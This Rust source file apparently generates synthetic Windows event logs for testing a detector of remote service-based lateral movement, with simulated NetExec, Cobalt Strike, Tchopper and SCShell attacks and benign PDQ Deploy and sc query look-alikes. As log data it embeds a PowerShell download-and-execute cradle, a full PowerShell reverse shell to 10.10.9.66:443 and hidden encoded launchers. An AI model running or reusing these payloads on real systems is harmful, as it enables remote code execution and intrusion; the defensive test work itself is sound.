//! Attacks whose evidence is not a full chain, and benign look-alikes: NetExec smbexec seen only
//! in the target's Sysmon process log, Cobalt Strike `psexec_psh`, a Tchopper-style mass
//! deployment (payload split across base64 display names), `sc.exe \\HOST create` seen only on
//! the source, an `SCShell`-style service modification; a software deployment of 200 services
//! and `sc query` sweeps that must stay below Medium.

use super::emit::{self, Proc, SCM_PID, Sess, ShareAccess, Who};
use super::records::{Host, SYSMON, s};
use super::tools::{Source, Spec, ms, run};
use super::{DemoChain, Env};
use crate::detect::Severity;
use base64::Engine as _;
use chrono::{DateTime, Utc};

const SERVICES: &str = "C:\\Windows\\System32\\services.exe";
const SYSTEM_USER: &str = "NT AUTHORITY\\SYSTEM";
const CMD: &str = "C:\\Windows\\System32\\cmd.exe";

/// The attacks of this module on the last day, and the benign look-alikes.
pub fn attacks(env: &mut Env, day: u32, outside: &str) -> Vec<DemoChain> {
    let mut chains = vec![
        smbexec_sysmon_only(env, env.at(day, 11 * 3600)),
        cobalt_strike_psh(env, env.at(day, 11 * 3600 + 20 * 60), outside),
        mass_deployment(env, env.at(day, 12 * 3600), outside),
        source_only_sc(env, env.at(day, 13 * 3600)),
        service_modification(env, env.at(day, 13 * 3600 + 30 * 60), outside),
    ];
    chains.retain(|c| !c.target.is_empty());
    software_deployment(env, env.at(day, 15 * 3600));
    sc_query_sweep(env, env.at(day, 16 * 3600));
    chains
}

/// NetExec smbexec (nxc/protocols/smb/smbexec.py): random output and batch names; the target
/// kept only its Sysmon process log.
fn smbexec_sysmon_only(env: &mut Env, t: DateTime<Utc>) -> DemoChain {
    let h = env.host("WS05");
    let out = env.rng.letters(6);
    let bat = env.rng.letters(6);
    let cmd = format!(
        "C:\\Windows\\system32\\cmd.exe /Q /c echo net localgroup administrators ^> \\\\127.0.0.1\\C$\\{out} 2^>^&1 > C:\\Windows\\{bat}.bat & C:\\Windows\\system32\\cmd.exe /Q /c C:\\Windows\\{bat}.bat & del C:\\Windows\\{bat}.bat"
    );
    let pid = env.pid();
    emit::process(
        env,
        &h,
        t,
        &Proc {
            image: CMD,
            cmd: &cmd,
            pid,
            parent: SERVICES,
            ppid: SCM_PID,
            user: SYSTEM_USER,
        },
    );
    let child = env.pid();
    let bat_cmd = format!("C:\\Windows\\system32\\cmd.exe /Q /c C:\\Windows\\{bat}.bat");
    emit::process(
        env,
        &h,
        t + ms(40),
        &Proc {
            image: CMD,
            cmd: &bat_cmd,
            pid: child,
            parent: CMD,
            ppid: pid,
            user: SYSTEM_USER,
        },
    );
    DemoChain {
        expect: Severity::Medium,
        tool: "netexec-smbexec".into(),
        source: "-".into(),
        source_ip: "-".into(),
        target: h.name,
        account: "-".into(),
        service: "-".into(),
        time: t,
    }
}

/// Cobalt Strike `jump psexec_psh`: a 7-character service running the PowerShell launcher
/// (Sigma `win_system_cobaltstrike_service_installs.yml`).
fn cobalt_strike_psh(env: &mut Env, t: DateTime<Utc>, outside: &str) -> DemoChain {
    // -EncodedCommand is base64 of UTF-16LE text, as PowerShell requires.
    let script: Vec<u8> = "IEX (New-Object Net.Webclient).DownloadString('http://10.10.9.66:80/a')"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let launcher = base64::engine::general_purpose::STANDARD.encode(script);
    let service = format!("{}{}", env.rng.letters(5), env.rng.below(90) + 10);
    let spec = Spec {
        tool: "cobaltstrike-psexec-psh",
        service,
        helper_rel: None,
        image: format!(
            "%COMSPEC% /b /c start /b /min powershell -nop -w hidden -encodedcommand {launcher}"
        ),
        helper_image: None,
        pipes: vec![],
        client: None,
        payload: format!(
            "C:\\Windows\\system32\\cmd.exe /b /c start /b /min powershell -nop -w hidden -encodedcommand {launcher}"
        ),
        ntlm: true,
    };
    let users = env.users.clone();
    let dst = env.host("WS02");
    run(
        env,
        &spec,
        &Source::Outside(outside.to_string()),
        &dst,
        &users[1],
        t,
    )
}

/// A Tchopper-style mass deployment: the payload, base64, split across the display names of
/// services created one after another over one session; each service only runs `exit`.
fn mass_deployment(env: &mut Env, t: DateTime<Utc>, outside: &str) -> DemoChain {
    let dst = env.host("FS01");
    let user = env.users[1].clone();
    let payload = "$c=New-Object Net.Sockets.TCPClient('10.10.9.66',443);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);$s.Write(([text.encoding]::ASCII).GetBytes($r),0,$r.Length)}";
    let b64 = base64::engine::general_purpose::STANDARD.encode(payload);
    let names: Vec<String> = b64
        .as_bytes()
        .chunks(16)
        .map(|c| String::from_utf8_lossy(c).into_owned())
        .collect();
    let sn = session(env, &dst, &user, outside, t);
    for (k, name) in names.iter().enumerate() {
        let at = t + ms(2_000 * i64::try_from(k).unwrap_or(0));
        emit::install_7045(env, &dst, at, &user.sid, name, "%COMSPEC% /c exit");
        emit::install_4697(env, &dst, at + ms(2), &sn, name, "%COMSPEC% /c exit");
    }
    from_outside(
        dst,
        &user,
        outside,
        names.first().cloned().unwrap_or_default(),
        t,
    )
}

/// `sc.exe \\LAB07 create` from ADMIN01: LAB07's own logs were never collected.
fn source_only_sc(env: &mut Env, t: DateTime<Utc>) -> DemoChain {
    let src = env.host("ADMIN01");
    let user = env.users[3].clone();
    let account = format!("CORP\\{}", user.name);
    let cmd = "sc.exe \\\\LAB07 create WinUpdSvc binPath= \"cmd.exe /c powershell -nop -w hidden -c IEX(gc C:\\Users\\Public\\u.txt -Raw)\" start= demand";
    let pid = env.pid();
    emit::process(
        env,
        &src,
        t,
        &Proc {
            image: "C:\\Windows\\System32\\sc.exe",
            cmd,
            pid,
            parent: CMD,
            ppid: 4100,
            user: &account,
        },
    );
    emit::connect(
        env,
        t + ms(200),
        &emit::Conn {
            src: &src,
            dst_ip: "10.10.7.7",
            dst_name: "LAB07.corp.local",
            port: 445,
            image: "System",
        },
    );
    DemoChain {
        expect: Severity::Medium,
        tool: "sc-remote".into(),
        source: src.name,
        source_ip: src.ip,
        target: "LAB07".into(),
        account,
        service: "WinUpdSvc".into(),
        time: t,
    }
}

/// `SCShell`-style: an existing service's binary path changed over a remote service-control
/// session, the service started, the path put back.
fn service_modification(env: &mut Env, t: DateTime<Utc>, outside: &str) -> DemoChain {
    let dst = env.host("WS03");
    let user = env.users[1].clone();
    let _ = session(env, &dst, &user, outside, t);
    let service = "XblAuthManager";
    let evil = "C:\\windows\\system32\\cmd.exe /c C:\\Windows\\System32\\rundll32.exe C:\\Users\\Public\\x.dll,Start";
    image_path(env, &dst, t, service, evil);
    emit::state(env, &dst, t + ms(300), service, true);
    let pid = env.pid();
    emit::process(
        env,
        &dst,
        t + ms(320),
        &Proc {
            image: CMD,
            cmd: evil,
            pid,
            parent: SERVICES,
            ppid: SCM_PID,
            user: SYSTEM_USER,
        },
    );
    image_path(
        env,
        &dst,
        t + ms(4_000),
        service,
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p",
    );
    from_outside(dst, &user, outside, service.into(), t)
}

/// A PDQ Deploy-style software rollout: 200 runner services from the admin host over one
/// session (their image paths are on the default allow-list).
fn software_deployment(env: &mut Env, t: DateTime<Utc>) {
    let dst = env.host("WS04");
    let admin = env.host("ADMIN01");
    let user = env.users[4].clone();
    let sn = session(env, &dst, &user, &admin.ip, t);
    for k in 1..=200 {
        let name = format!("PDQDeployRunner-{k}");
        let image =
            format!("C:\\Windows\\AdminArsenal\\PDQDeployRunner\\service-{k}\\exec\\{name}.exe");
        let at = t + ms(9_000 * k);
        emit::install_7045(env, &dst, at, &user.sid, &name, &image);
        emit::install_4697(env, &dst, at + ms(2), &sn, &name, &image);
        emit::state(env, &dst, at + ms(100), &name, true);
        emit::state(env, &dst, at + ms(6_000), &name, false);
    }
}

/// The admin's `sc query` over every host: service-control reads, no change.
fn sc_query_sweep(env: &mut Env, t: DateTime<Utc>) {
    let admin = env.host("ADMIN01");
    let user = env.users[4].clone();
    let account = format!("CORP\\{}", user.name);
    let hosts: Vec<Host> = env.hosts.clone();
    for (k, h) in hosts.iter().enumerate() {
        if h.name == admin.name {
            continue;
        }
        let at = t + ms(1_500 * i64::try_from(k).unwrap_or(0));
        let cmd = format!("sc.exe \\\\{} query type= service state= all", h.name);
        let pid = env.pid();
        emit::process(
            env,
            &admin,
            at,
            &Proc {
                image: "C:\\Windows\\System32\\sc.exe",
                cmd: &cmd,
                pid,
                parent: CMD,
                ppid: 4100,
                user: &account,
            },
        );
        let sn = Sess {
            lid: env.logon_id(),
            who: Who {
                user: &user.name,
                domain: "CORP",
                sid: &user.sid,
            },
            ip: &admin.ip,
        };
        emit::logon(env, h, at + ms(100), &sn, 3, "Kerberos");
        let read = ShareAccess {
            share: "IPC$",
            rel: Some("svcctl"),
            access: "%%4416",
        };
        emit::share(env, h, at + ms(120), &sn, &read);
    }
}

/// What a correct detection reports for a tool-less attack from an outside address.
fn from_outside(
    dst: Host,
    user: &super::records::User,
    outside: &str,
    service: String,
    t: DateTime<Utc>,
) -> DemoChain {
    DemoChain {
        expect: Severity::Medium,
        tool: String::new(),
        source: outside.to_string(),
        source_ip: outside.to_string(),
        target: dst.name,
        account: format!("CORP\\{}", user.name),
        service,
        time: t,
    }
}

/// One SMB session of `user` from `ip` onto `dst` with service-control access; its logon id.
fn session<'a>(
    env: &mut Env,
    dst: &Host,
    user: &'a super::records::User,
    ip: &'a str,
    t: DateTime<Utc>,
) -> Sess<'a> {
    let sn = Sess {
        lid: env.logon_id(),
        who: Who {
            user: &user.name,
            domain: "CORP",
            sid: &user.sid,
        },
        ip,
    };
    emit::logon(env, dst, t - ms(1_000), &sn, 3, "NTLM");
    let scm = ShareAccess {
        share: "IPC$",
        rel: Some("svcctl"),
        access: "%%4416 %%4417",
    };
    emit::share(env, dst, t - ms(900), &sn, &scm);
    sn
}

/// Sysmon 13: services.exe sets a service's `ImagePath`.
fn image_path(env: &mut Env, h: &Host, ts: DateTime<Utc>, service: &str, value: &str) {
    let data = [
        ("EventType", s("SetValue")),
        ("UtcTime", ts.format("%Y-%m-%d %H:%M:%S%.3f").to_string()),
        ("ProcessId", SCM_PID.to_string()),
        ("Image", s(SERVICES)),
        (
            "TargetObject",
            format!("HKLM\\System\\CurrentControlSet\\Services\\{service}\\ImagePath"),
        ),
        ("Details", s(value)),
    ];
    env.logs
        .add(h, (SYSMON, 13), ts, (Some("S-1-5-18"), 3000), &data);
}
